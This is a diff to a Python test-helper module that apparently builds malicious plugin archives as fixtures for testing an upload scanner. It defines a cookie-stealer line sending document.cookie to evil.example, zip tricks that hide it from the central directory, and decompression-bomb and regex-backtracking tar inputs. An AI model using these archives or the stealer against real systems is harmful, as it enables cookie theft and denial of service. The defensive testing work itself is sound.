@@ -3,10 +3,13 @@
 from __future__ import annotations
 
 import gzip
+import json
 import struct
 import zlib
 from dataclasses import dataclass, field
 from typing import Any
+
+from tests.conftest import CLEAN_JS, manifest
 
 STORED, DEFLATED = 0, 8
 UTF8 = 0x0800
@@ -177,3 +180,68 @@ def pax_record(key: bytes, value: bytes) -> bytes:
 
 def tar_gz(*members: bytes, end: bytes = bytes(1024)) -> bytes:
     return gzip.compress(b"".join(members) + end, mtime=0)
+
+
+# ---------------------------------------------------------------- issue 11's attacks
+# Each got a cookie stealer to `pass`, crashed intake, or kept it busy for minutes.
+
+HARMLESS = CLEAN_JS.encode()
+STEALER = b";fetch('https://evil.example/c?'+document.cookie);"
+PLUGIN = json.dumps(manifest()).encode()
+
+
+def stealer_behind_the_directory(method: int) -> bytes:
+    """bundle.js holds the stealer after the harmless code; the central directory
+    describes only the harmless start, the local header the whole of it."""
+    js = entry("dist/bundle.js", HARMLESS + STEALER, method)
+    js.central = {"usize": len(HARMLESS), "crc": zlib.crc32(HARMLESS)}
+    if method == STORED:
+        js.central["csize"] = len(HARMLESS)
+    return build_zip([entry("plugin.json", PLUGIN), js])
+
+
+def local_entry_missing_from_directory() -> bytes:
+    hidden = entry("dist/hidden.js", STEALER, listed=False)
+    return build_zip([entry("plugin.json", PLUGIN), hidden, entry("dist/bundle.js", HARMLESS)])
+
+
+def bad_utf8_local_name() -> bytes:
+    js = entry("dist/bundle.js", HARMLESS, flags=UTF8)
+    js.local = {"name": b"dist/\xff\xfendle.js"}
+    return build_zip([entry("plugin.json", PLUGIN), js])
+
+
+def unknown_version_needed() -> bytes:
+    return build_zip([entry("plugin.json", PLUGIN, version=99), entry("dist/bundle.js", HARMLESS)])
+
+
+def zip64_million_entries() -> bytes:
+    """One real member and a central directory of 1,000,000 entries behind zip64 end
+    records, so the plain end record's 0xFFFF count says nothing."""
+    one = entry("a", b"")
+    local = build_zip([one])
+    cd_offset = local.index(b"PK\x01\x02")
+    central = local[cd_offset : local.index(b"PK\x05\x06")]
+    count = 1_000_000
+    cd = central * count
+    end64_pos = cd_offset + len(cd)
+    end64 = struct.pack(
+        "<4sQHHIIQQQQ", b"PK\x06\x06", 44, 45, 45, 0, 0, count, count, len(cd), cd_offset
+    )
+    locator = struct.pack("<4sIQI", b"PK\x06\x07", 0, end64_pos, 1)
+    end = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, 0xFFFF, 0xFFFF, 0xFFFFFFFF, 0xFFFFFFFF, 0)
+    return local[:cd_offset] + cd + end64 + locator + end
+
+
+def pax_digit_run(digits: int) -> bytes:
+    # CVE-2024-6232: tarfile's pax regexes backtrack over long digit runs.
+    pax = b"1" * digits + b" path=dist/bundle.js\n"
+    return tar_gz(tar_member(b"././@PaxHeader", pax, b"x"), tar_member(b"dist/bundle.js", HARMLESS))
+
+
+def huge_pax_header() -> bytes:
+    """A 100 MB pax header that gzip squeezes into about 100 KB."""
+    size = 100 * 1024 * 1024
+    blocks = [tar_header(b"././@PaxHeader", size, b"x")]
+    stream = gzip.compress(blocks[0] + bytes(size) + bytes(1024), compresslevel=9, mtime=0)
+    return stream
